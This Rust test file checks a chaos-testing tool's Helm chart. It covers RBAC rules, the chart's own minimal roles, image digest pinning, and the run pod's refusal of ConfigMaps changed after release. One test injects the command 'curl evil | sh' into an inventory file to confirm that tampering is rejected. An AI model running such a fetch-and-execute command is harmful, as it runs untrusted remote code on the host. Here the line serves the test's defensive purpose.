//! The Helm chart (deploy/helm/faultline) installs exactly the RBAC `faultline rbac`
//! generates from the fault table: with its default values (the rules committed in
//! values.yaml for its own experiments) and with values generated for other experiments.
//! helm is the real one, built from its Go module and cached (ci/helm/build).

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;

const CHART: &str = "deploy/helm/faultline";

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// The cached helm binary (built on first use).
fn helm() -> PathBuf {
    let out = Command::new(root().join("ci/helm/build"))
        .output()
        .unwrap_or_else(|e| panic!("ci/helm/build: {e}"));
    assert!(
        out.status.success(),
        "ci/helm/build failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    PathBuf::from(String::from_utf8_lossy(&out.stdout).trim())
}

fn run(cmd: &mut Command) -> String {
    let out = cmd.output().unwrap_or_else(|e| panic!("{cmd:?}: {e}"));
    assert!(
        out.status.success(),
        "{cmd:?} failed:\n{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn faultline(args: &[&str]) -> String {
    run(Command::new(env!("CARGO_BIN_EXE_faultline"))
        .current_dir(root())
        .args(args))
}

fn docs(yaml: &str) -> Vec<Value> {
    serde_saphyr::from_multiple::<Value>(yaml)
        .unwrap_or_else(|e| panic!("{e}\n{yaml}"))
        .into_iter()
        .filter(|d| !d.is_null())
        .collect()
}

/// The roles the chart makes for itself, beside the observer's and the actor's that
/// `faultline rbac` prints: the stop hook's, the undo watcher's and the trust check's
/// ([`chart_own_roles`]).
fn chart_own(d: &Value) -> bool {
    let name = d["metadata"]["name"].as_str().unwrap_or_default();
    name == "faultline-undo-watcher" || name.ends_with("-stop-runs") || name.ends_with("-trust")
}

/// (kind, namespace, name) → rules, for every ClusterRole and Role of the observer and the
/// actor.
fn roles(docs: &[Value]) -> BTreeMap<(String, String, String), Value> {
    docs.iter()
        .filter(|d| matches!(d["kind"].as_str(), Some("ClusterRole" | "Role")))
        .filter(|d| !chart_own(d))
        .map(|d| {
            let key = (
                d["kind"].as_str().unwrap_or_default().to_string(),
                d["metadata"]["namespace"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string(),
                d["metadata"]["name"]
                    .as_str()
                    .unwrap_or_default()
                    .to_string(),
            );
            (key, d["rules"].clone())
        })
        .collect()
}

fn subjects(docs: &[Value], kind: &str, name: &str) -> Vec<String> {
    let binding = docs
        .iter()
        .find(|d| d["kind"] == kind && d["metadata"]["name"] == name)
        .unwrap_or_else(|| panic!("no {kind} {name}"));
    binding["subjects"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|s| s["name"].as_str().unwrap_or_default().to_string())
        .collect()
}

#[test]
fn the_chart_installs_the_rules_generated_for_its_own_experiments() {
    let helm = helm();
    run(Command::new(&helm)
        .current_dir(root())
        .args(["lint", CHART]));
    let rendered = docs(&run(Command::new(&helm)
        .current_dir(root())
        .args(["template", "t", CHART])));
    let generated = docs(&faultline(&[
        "rbac",
        &format!("{CHART}/files/experiments"),
        "--name",
        "t",
        "--namespaces-exist",
    ]));
    let (rendered_roles, generated_roles) = (roles(&rendered), roles(&generated));
    assert!(
        rendered_roles.len() >= 3,
        "observer ClusterRole, lease Role, actor ClusterRole: {rendered_roles:#?}"
    );
    assert_eq!(
        rendered_roles, generated_roles,
        "values.yaml's rbac: is stale; regenerate it with `faultline rbac {CHART}/files/experiments -o values`"
    );
    // The actor watches too; the observer never holds the actor's rules.
    assert_eq!(
        subjects(&rendered, "ClusterRoleBinding", "t-observer"),
        ["t-observer", "t-actor"]
    );
    assert_eq!(
        subjects(&rendered, "ClusterRoleBinding", "t-actor"),
        ["t-actor"]
    );
    assert_eq!(subjects(&rendered, "RoleBinding", "t-actor"), ["t-actor"]);
    // The Job tells faultline which pod is its own.
    let job = rendered
        .iter()
        .find(|d| d["kind"] == "Job")
        .expect("a Job by default");
    // Its grace is what its experiments' undo needs after SIGTERM, as generated.
    let values: Value = serde_saphyr::from_str(&faultline(&[
        "rbac",
        &format!("{CHART}/files/experiments"),
        "-o",
        "values",
    ]))
    .expect("values");
    assert_eq!(
        job["spec"]["template"]["spec"]["terminationGracePeriodSeconds"],
        values["job"]["terminationGracePeriodSeconds"],
        "values.yaml's job.terminationGracePeriodSeconds is stale: `faultline rbac {CHART}/files/experiments -o values` prints it"
    );
    let env = job["spec"]["template"]["spec"]["containers"][0]["env"].to_string();
    for var in ["POD_NAME", "POD_NAMESPACE"] {
        assert!(env.contains(var), "{var} missing from {env}");
    }
}

#[test]
fn values_generated_for_other_experiments_render_as_generated() {
    let helm = helm();
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let values = dir.path().join("rbac.yaml");
    let exp = "experiments/local-persistent-volume.yaml";
    std::fs::write(&values, faultline(&["rbac", exp, "-o", "values"]))
        .unwrap_or_else(|e| panic!("{e}"));
    let rendered = docs(&run(Command::new(&helm).current_dir(root()).args([
        "template",
        "t",
        CHART,
        "-f",
        &values.display().to_string(),
        "--set",
        "cronJob.enabled=true",
    ])));
    let generated = docs(&faultline(&[
        "rbac",
        exp,
        "--name",
        "t",
        "--namespaces-exist",
    ]));
    let rendered_roles = roles(&rendered);
    assert!(
        rendered_roles.contains_key(&(
            "Role".to_string(),
            "faultline-lab".to_string(),
            "t-actor".to_string()
        )),
        "the claims are deleted in faultline-lab: {rendered_roles:#?}"
    );
    assert_eq!(rendered_roles, roles(&generated));
    assert!(rendered.iter().any(|d| d["kind"] == "CronJob"));
}

/// The chart running a node fault through the API transport: with the values `faultline
/// rbac -i` generates for a `transport: pod` inventory, the actor gets a Role in the
/// node-access namespace, which the chart creates labelled for privileged pods; and a
/// CronJob comparing each run with the previous one passes that on to its pod.
#[test]
fn the_api_transport_s_namespace_and_rules_and_the_nightly_comparison_render() {
    let helm = helm();
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let inventory = dir.path().join("inventory.yaml");
    std::fs::write(
        &inventory,
        "cluster:\n  name: in-cluster\nprofile: kubeadm\ntransport: pod\nnodes:\n  - name: w1\n",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let values = dir.path().join("rbac.yaml");
    let exp = "experiments/kubelet-stop-within-toleration.yaml";
    let inv = inventory.display().to_string();
    std::fs::write(
        &values,
        faultline(&["rbac", exp, "-i", &inv, "-o", "values"]),
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let rendered = docs(&run(Command::new(&helm).current_dir(root()).args([
        "template",
        "t",
        CHART,
        "-f",
        &values.display().to_string(),
        "--set",
        "cronJob.enabled=true",
        "--set",
        "job.compareWithPrevious=true",
        "--set",
        "job.compareArgs={--tolerance,10%}",
    ])));
    let generated = docs(&faultline(&[
        "rbac",
        exp,
        "-i",
        &inv,
        "--name",
        "t",
        "--namespaces-exist",
    ]));
    let rendered_roles = roles(&rendered);
    assert!(
        rendered_roles.contains_key(&(
            "Role".to_string(),
            "faultline-node-access".to_string(),
            "t-actor".to_string()
        )),
        "{rendered_roles:#?}"
    );
    assert_eq!(rendered_roles, roles(&generated));
    let ns = rendered
        .iter()
        .find(|d| d["kind"] == "Namespace" && d["metadata"]["name"] == "faultline-node-access")
        .expect("the node-access namespace");
    assert_eq!(
        ns["metadata"]["labels"]["pod-security.kubernetes.io/enforce"],
        "privileged"
    );
    let cron = rendered
        .iter()
        .find(|d| d["kind"] == "CronJob")
        .expect("the CronJob");
    let container = &cron["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0];
    assert!(
        container["env"]
            .to_string()
            .contains("{\"name\":\"FAULTLINE_COMPARE\",\"value\":\"true\"}"),
        "{}",
        container["env"]
    );
    assert!(
        container["env"]
            .to_string()
            .contains("{\"name\":\"FAULTLINE_COMPARE_ARGS\",\"value\":\"--tolerance 10%\"}"),
        "{}",
        container["env"]
    );
    // faultline is the pod's PID 1: the comparison's arguments go with the baseline only
    // (`faultline job` passes them when there is a previous run).
    assert_eq!(
        container["command"],
        serde_json::json!(["faultline", "job", "run"]),
        "{container}"
    );
}

/// The chart's own three roles hold no more than their jobs: the stop hook (a `pre-delete`
/// and `pre-upgrade` hook, gone once it succeeded) lists pods and deletes Jobs in the
/// release's namespace; the undo watcher gets pods in the node-access namespace; the trust
/// check reads the RBAC objects of the release's namespace. Nothing else.
#[test]
fn chart_own_roles() {
    let helm = helm();
    let rendered = docs(&run(Command::new(&helm).current_dir(root()).args([
        "template",
        "t",
        CHART,
        "--set",
        "rbac.nodeAccessNamespaces={faultline-node-access}",
    ])));
    let own: Vec<&Value> = rendered
        .iter()
        .filter(|d| d["kind"] == "Role" && chart_own(d))
        .collect();
    assert_eq!(own.len(), 3, "{own:?}");
    // The trust check reads RBAC objects of its own namespace, nothing else.
    let trust = own
        .iter()
        .find(|d| d["metadata"]["name"] == "t-trust")
        .expect("the trust check's Role");
    assert_eq!(
        trust["rules"].to_string(),
        r#"[{"apiGroups":["rbac.authorization.k8s.io"],"resources":["rolebindings","roles"],"verbs":["get","list"]}]"#
    );
    let stop = own
        .iter()
        .find(|d| d["metadata"]["name"] == "t-stop-runs")
        .expect("the stop hook's Role");
    assert_eq!(
        stop["metadata"]["annotations"]["helm.sh/hook"],
        "pre-delete,pre-upgrade"
    );
    assert_eq!(
        stop["rules"].to_string(),
        r#"[{"apiGroups":[""],"resources":["pods"],"verbs":["get","list"]},{"apiGroups":["batch"],"resources":["jobs"],"verbs":["delete"]}]"#
    );
    let watcher = own
        .iter()
        .find(|d| d["metadata"]["name"] == "faultline-undo-watcher")
        .expect("the undo watcher's Role");
    assert_eq!(watcher["metadata"]["namespace"], "faultline-node-access");
    assert_eq!(
        watcher["rules"].to_string(),
        r#"[{"apiGroups":[""],"resources":["pods"],"verbs":["get"]}]"#
    );
    // The hook runs `faultline stop-runs` on the release's run pods, which carry that label.
    let hook = rendered
        .iter()
        .find(|d| d["kind"] == "Job" && d["metadata"]["name"] == "t-stop-runs")
        .expect("the hook Job");
    let command = hook["spec"]["template"]["spec"]["containers"][0]["command"].to_string();
    assert!(
        command.contains("--selector=app.kubernetes.io/instance=t,app.kubernetes.io/component=run"),
        "{command}"
    );
    let run = rendered
        .iter()
        .find(|d| d["kind"] == "Job" && d["metadata"]["name"] != "t-stop-runs")
        .expect("the run Job");
    let pod = &run["spec"]["template"];
    assert_eq!(
        pod["metadata"]["labels"]["app.kubernetes.io/component"],
        "run"
    );
    assert_eq!(pod["spec"]["terminationGracePeriodSeconds"], 198);
}

/// Issue 69, items 3 and 4: the run pod is `faultline job` (PID 1, no shell losing
/// signals in between), and what it runs is pinned: the digests the chart writes into the
/// Job's spec are those of the ConfigMaps it renders, so the real binary accepts the
/// release's files as mounted, and refuses to run when one was edited since, added or
/// taken away.
#[test]
fn the_run_pod_is_faultline_itself_and_refuses_configmaps_edited_since_the_release() {
    let helm = helm();
    let rendered = docs(&run(Command::new(&helm).current_dir(root()).args([
        "template",
        "t",
        CHART,
        "--set",
        "job.extraArgs={--keep-going}",
    ])));
    let job = rendered
        .iter()
        .find(|d| d["kind"] == "Job" && d["metadata"]["name"] == "t-run-1")
        .expect("the run Job");
    let container = &job["spec"]["template"]["spec"]["containers"][0];
    assert_eq!(
        container["command"],
        serde_json::json!(["faultline", "job", "run"])
    );
    assert_eq!(container["args"], serde_json::json!(["--", "--keep-going"]));
    let env = |name: &str| -> String {
        container["env"]
            .as_array()
            .into_iter()
            .flatten()
            .find(|e| e["name"] == name)
            .and_then(|e| e["value"].as_str())
            .unwrap_or_else(|| panic!("no {name} in {}", container["env"]))
            .to_string()
    };
    let pins = env("FAULTLINE_PINNED");
    assert_eq!(env("FAULTLINE_REPORTS_EPHEMERAL"), "false");
    // The three ConfigMaps, mounted as the kubelet mounts them.
    let dir = tempfile::tempdir().expect("tempdir");
    let etc = dir.path().join("etc");
    let mut files = 0;
    for (cm, sub) in [
        ("t-experiments", "experiments"),
        ("t-manifests", "manifests"),
        ("t-inventory", "inventory"),
    ] {
        let map = rendered
            .iter()
            .find(|d| d["kind"] == "ConfigMap" && d["metadata"]["name"] == cm)
            .unwrap_or_else(|| panic!("no ConfigMap {cm}"));
        let data = etc.join(sub).join("..2026_12_07.1");
        std::fs::create_dir_all(&data).expect("mkdir");
        std::os::unix::fs::symlink("..2026_12_07.1", etc.join(sub).join("..data")).expect("ln");
        for (name, text) in map["data"].as_object().into_iter().flatten() {
            std::fs::write(data.join(name), text.as_str().expect("text")).expect("write");
            std::os::unix::fs::symlink(format!("..data/{name}"), etc.join(sub).join(name))
                .expect("ln");
            files += 1;
        }
    }
    assert!(
        files >= 3,
        "experiments, manifests and the inventory: {files}"
    );
    assert_eq!(pins.lines().count(), files, "{pins}");
    let validate = || {
        Command::new(env!("CARGO_BIN_EXE_faultline"))
            .args(["job", "validate", "--config"])
            .arg(&etc)
            .arg("--reports")
            .arg(dir.path().join("reports"))
            .env("FAULTLINE_PINNED", &pins)
            .output()
            .expect("faultline job validate")
    };
    let out = validate();
    let said =
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{said}");
    assert!(
        said.contains("are the release's (pinned digests)"),
        "{said}"
    );
    // Someone with `update configmaps` adds a command to the inventory.
    let inventory = etc.join("inventory/..2026_12_07.1/inventory.yaml");
    let mut text = std::fs::read_to_string(&inventory).expect("read");
    text.push_str("commands:\n  kubeletStop: \"curl evil | sh\"\n");
    std::fs::write(&inventory, text).expect("edit");
    let out = validate();
    let said = String::from_utf8_lossy(&out.stderr).to_string();
    assert_eq!(out.status.code(), Some(2), "{said}");
    assert!(
        said.contains("inventory/inventory.yaml: not what the release pinned"),
        "{said}"
    );
}

/// Every pod the chart makes runs the faultline image by digest once `image.digest` is set
/// (the tag kept for the reader, the digest deciding what runs), and by tag without it.
#[test]
fn the_chart_runs_its_image_by_digest_when_one_is_given() {
    let helm = helm();
    let images = |extra: &[&str]| -> Vec<String> {
        let mut args = vec![
            "template",
            "t",
            CHART,
            "--set",
            "rbac.nodeAccessNamespaces={faultline-node-access}",
        ];
        args.extend_from_slice(extra);
        let rendered = docs(&run(Command::new(&helm).current_dir(root()).args(&args)));
        let mut found = Vec::new();
        for d in &rendered {
            let spec = match d["kind"].as_str() {
                Some("Job") => &d["spec"]["template"]["spec"],
                Some("CronJob") => &d["spec"]["jobTemplate"]["spec"]["template"]["spec"],
                _ => continue,
            };
            for c in spec["containers"].as_array().into_iter().flatten() {
                found.push(c["image"].as_str().unwrap_or_default().to_string());
            }
        }
        found
    };
    let by_tag = images(&[]);
    assert!(
        by_tag.len() >= 2,
        "the run Job and the stop hook: {by_tag:?}"
    );
    assert!(by_tag.iter().all(|i| i == "faultline:0.1.0"), "{by_tag:?}");
    let digest = format!("sha256:{}", "ab".repeat(32));
    let by_digest = images(&["--set", &format!("image.digest={digest}")]);
    assert_eq!(by_digest.len(), by_tag.len());
    assert!(
        by_digest
            .iter()
            .all(|i| *i == format!("faultline:0.1.0@{digest}")),
        "{by_digest:?}"
    );
}
